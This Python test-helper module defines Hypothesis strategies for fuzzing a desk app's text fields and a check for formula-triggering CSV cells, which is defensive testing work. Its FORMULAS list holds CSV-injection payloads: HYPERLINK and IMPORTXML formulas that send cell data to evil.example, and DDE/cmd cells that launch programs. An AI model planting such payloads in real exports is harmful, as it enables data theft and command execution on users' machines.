"""Hypothesis strategies for what people type (and paste, and import): umlauts, digits in
names, control characters, NUL, U+2028/U+2029, lone surrogates, noncharacters, emoji,
10 kB fields and spreadsheet formula cells.
"""

from __future__ import annotations

import re

from hypothesis import strategies as st

from desk_app.domain.text_safety import is_clean

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    "\t=1+2",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
)
TROUBLE = (
    "\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f", "\x85", "\x9f",
    "\u2028", "\u2029", "\ud800", "\udfff", "\udc80", "\ufffe", "\uffff", "\ufdd0",
    "\U0001fffe", "\t", "\n", "\r", "\r\n", "\u200b", "\u202e", "\ufeff",
)  # fmt: skip
WORDS = (
    "Müller", "Jörg", "Weiß", "Öztürk", "Ärger", "Zoë", "José", "Łukasz", "Nguyễn", "李",
    "O'Brien", "Anne-Marie", "Jean Luc", "R2D2", "Müller3", "4711", "Dr.", "van der Berg",
    "💇‍♀️", "Ǆ", "ﬀ", "İstanbul", " ", "  ", ";", ",", '"', "'", "\\", "{{ first_name }}",
    "{% if first_name %}x{% endif %}", "{{", "}}", "$unsubscribe_url", "%s", "<b>",
    "&amp;", "Straße 1", "12345", "+49 151 1234 5678",
)  # fmt: skip
LONG = ("x" * 10_000, "Ä" * 10_000, "=" + "A" * 9_999, "a\u2028" * 100)

fragment = st.one_of(
    st.sampled_from(WORDS),
    st.sampled_from(TROUBLE),
    st.sampled_from(FORMULAS),
    st.text(min_size=1, max_size=12),
    st.characters(codec=None, categories=("Cc", "Cs", "Zl", "Zp", "Cf", "Co")).map(str),
)

typed_text = st.one_of(
    st.lists(fragment, max_size=6).map("".join),
    st.sampled_from(LONG),
    st.sampled_from(FORMULAS),
)
"""Anything someone could type or paste into a field."""

plain_name = st.sampled_from(("Anna", "Jörg", "Weiß", "Zoë", "Anne-Marie", "O'Brien", "Ali3"))

emails = st.one_of(
    st.builds(
        lambda user, n: f"{user}{n}@example.org",
        st.sampled_from(("anna", "joerg.weiss", "zoe+salon", "m.oeztuerk")),
        st.integers(0, 10**9),
    ),
    typed_text,
)
phones = st.one_of(
    st.integers(10**6, 10**8 - 1).map(lambda n: f"0151 {n}"),
    st.integers(10**6, 10**8 - 1).map(lambda n: f"+49 170 {n}"),
    typed_text,
)


_EXECUTES = re.compile(r"^[=@\t\r\n]")
_SIGNED = re.compile(r"^[+-]")
_PLAIN_NUMBER = re.compile(r"^[+-][0-9 ()/.\-]*$")


def spreadsheet_executes(cell: str) -> bool:
    """Would Excel/LibreOffice/Google Sheets treat this CSV cell as a formula?

    ``=``, ``@``, tab and CR start a formula (OWASP "CSV injection"); ``+`` and ``-`` do
    too unless the rest is a plain number (a phone number such as +4915112345678 is read
    as a number, not run). Leading spaces are skipped by some programs, so they are too.
    """
    stripped = cell.lstrip(" ")
    if _EXECUTES.match(stripped):
        return True
    return bool(_SIGNED.match(stripped)) and not _PLAIN_NUMBER.match(stripped)


def forbidden_in(text: str, multiline: bool = False) -> bool:
    return not is_clean(text, multiline=multiline)
